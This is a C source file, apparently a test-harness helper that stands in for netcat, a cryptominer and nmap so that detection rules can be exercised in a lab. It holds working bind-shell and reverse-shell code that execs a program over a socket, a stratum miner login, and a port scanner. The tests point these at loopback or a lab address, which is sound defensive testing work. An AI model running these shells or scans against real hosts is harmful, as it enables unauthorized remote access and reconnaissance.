// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * rh_tool: the lab's stand-in for the attack tools Debian does not ship by
 * default (netcat with -e, a miner, a port scanner). rules_harness.h
 * compiles it at test time (gcc; it is not built by the Makefile) and copies
 * it under the name a test needs, so that its comm is nc, xmrig, nmap...
 * It does the real thing on the wire, only against the addresses it is
 * given (the tests give loopback or the lab namespace, 198.51.100.2), and
 * every wait in it is bounded.
 *
 *   NAME -l -p PORT -e PROG     netcat bind shell: listen on 127.0.0.1:PORT,
 *                               accept one client within 5 s, exec PROG on it
 *   NAME HOST PORT -e PROG      netcat reverse shell: connect, exec PROG on it
 *   NAME --send HOST PORT TEXT  connect (retrying refusals for 5 s), send TEXT,
 *                               read until the peer closes (2 s at most)
 *   NAME -o stratum+tcp://HOST:PORT [miner args...]
 *                               miner: connect to the pool, send a stratum
 *                               login, read one line (3 s at most)
 *   NAME --scan HOST FIRST LAST blocking connect to each port FIRST..LAST;
 *                               prints "refused=N ok=N other=N"
 *   NAME --nbconnect HOST PORT N
 *                               N non-blocking connects to HOST:PORT (each
 *                               EINPROGRESS, then waited for up to 2 s)
 *   NAME --connect HOST PORT    one blocking connect (refusals retried for 5 s),
 *                               then close
 *   NAME -z HOST PORT           the same (netcat's port probe)
 *   NAME --spawn PROG ARGS...   fork, exec PROG ARGS, wait (a service that
 *                               runs a child)
 * Exit 0 on success, 2 on usage errors, 1 on failures.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int addr(const char *host, int port, struct sockaddr_in *sa)
{
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((unsigned short)port);
	return inet_pton(AF_INET, host, &sa->sin_addr) == 1 ? 0 : -1;
}

static int tcp_connect(const char *host, int port)
{
	struct sockaddr_in sa;
	int fd;

	if (addr(host, port, &sa))
		return -1;
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		int e = errno;

		close(fd);
		errno = e;
		return -1;
	}
	return fd;
}

/* Read until EOF or ms passed. */
static void drain(int fd, int ms)
{
	long long end = now_ms() + ms;
	char buf[512];

	while (now_ms() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };

		if (poll(&p, 1, (int)(end - now_ms())) <= 0)
			return;
		if (read(fd, buf, sizeof(buf)) <= 0)
			return;
	}
}

static int exec_on(int fd, const char *prog)
{
	if (dup2(fd, 0) < 0 || dup2(fd, 1) < 0 || dup2(fd, 2) < 0)
		return 1;
	execl(prog, prog, (char *)NULL);
	perror(prog);
	return 1;
}

static int bind_shell(int port, const char *prog)
{
	struct sockaddr_in sa;
	int one = 1, c, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct pollfd p;

	if (fd < 0 || addr("127.0.0.1", port, &sa) ||
	    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) ||
	    bind(fd, (struct sockaddr *)&sa, sizeof(sa)) || listen(fd, 1)) {
		perror("listen");
		return 1;
	}
	p = (struct pollfd){ .fd = fd, .events = POLLIN };
	if (poll(&p, 1, 5000) != 1) {
		fprintf(stderr, "no client within 5 s\n");
		return 1;
	}
	c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
	if (c < 0)
		return 1;
	close(fd);
	return exec_on(c, prog);
}

/* Connect, retrying refusals for 5 s: a listener started in the background
 * of the same command may not be listening yet. */
static int tcp_connect_retry(const char *host, int port)
{
	long long end = now_ms() + 5000;
	int fd;

	for (;;) {
		fd = tcp_connect(host, port);
		if (fd >= 0)
			return fd;
		if (errno != ECONNREFUSED || now_ms() >= end) {
			perror("connect");
			return -1;
		}
		usleep(10000); /* poll slice while the listener comes up */
	}
}

static int send_text(const char *host, int port, const char *text)
{
	int fd = tcp_connect_retry(host, port);

	if (fd < 0)
		return 1;
	if (write(fd, text, strlen(text)) < 0)
		return 1;
	drain(fd, 2000);
	close(fd);
	return 0;
}

static int miner(const char *url, int argc, char **argv)
{
	char host[64], login[512];
	int port, fd;

	if (sscanf(url, "stratum+tcp://%63[^:]:%d", host, &port) != 2)
		return 2;
	fd = tcp_connect(host, port);
	if (fd < 0) {
		perror("pool");
		return 1;
	}
	snprintf(login, sizeof(login),
		 "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\","
		 "\"pass\":\"x\",\"agent\":\"rh_tool/1.0\"}}\n",
		 argc > 0 ? argv[0] : "wallet");
	if (write(fd, login, strlen(login)) < 0)
		return 1;
	drain(fd, 3000);
	close(fd);
	return 0;
}

static int scan(const char *host, int first, int last)
{
	int refused = 0, ok = 0, other = 0;

	for (int p = first; p <= last && p < 65536; p++) {
		int fd = tcp_connect(host, p);

		if (fd >= 0) {
			ok++;
			close(fd);
		} else if (errno == ECONNREFUSED) {
			refused++;
		} else {
			other++;
		}
	}
	printf("refused=%d ok=%d other=%d\n", refused, ok, other);
	return 0;
}

static int nbconnect(const char *host, int port, int n)
{
	struct sockaddr_in sa;
	int inprogress = 0, other = 0;

	if (addr(host, port, &sa) || n < 1 || n > 1000)
		return 2;
	for (int i = 0; i < n; i++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		struct pollfd p = { .fd = fd, .events = POLLOUT };

		if (fd < 0)
			return 1;
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0)
			other++;
		else if (errno == EINPROGRESS)
			inprogress++, poll(&p, 1, 2000);
		else
			other++;
		close(fd);
	}
	printf("inprogress=%d other=%d\n", inprogress, other);
	return 0;
}

static int spawn(char **argv)
{
	int st;
	pid_t pid = fork();

	if (pid < 0)
		return 1;
	if (pid == 0) {
		execv(argv[0], argv);
		_exit(127);
	}
	if (waitpid(pid, &st, 0) < 0)
		return 1;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

int main(int argc, char **argv)
{
	if (argc >= 6 && !strcmp(argv[1], "-l") && !strcmp(argv[2], "-p") && !strcmp(argv[4], "-e"))
		return bind_shell(atoi(argv[3]), argv[5]);
	if (argc >= 5 && !strcmp(argv[3], "-e"))
		return exec_on(tcp_connect(argv[1], atoi(argv[2])), argv[4]);
	if (argc >= 5 && !strcmp(argv[1], "--send"))
		return send_text(argv[2], atoi(argv[3]), argv[4]);
	if (argc >= 3 && !strcmp(argv[1], "-o"))
		return miner(argv[2], argc - 3, argv + 3);
	if (argc >= 5 && !strcmp(argv[1], "--scan"))
		return scan(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc >= 5 && !strcmp(argv[1], "--nbconnect"))
		return nbconnect(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc >= 4 && (!strcmp(argv[1], "--connect") || !strcmp(argv[1], "-z"))) {
		int fd = tcp_connect_retry(argv[2], atoi(argv[3]));

		if (fd < 0)
			return 1;
		close(fd);
		return 0;
	}
	if (argc >= 3 && !strcmp(argv[1], "--spawn"))
		return spawn(argv + 2);
	fprintf(stderr, "usage: see tests/integration/lab/rh_tool.c\n");
	return 2;
}
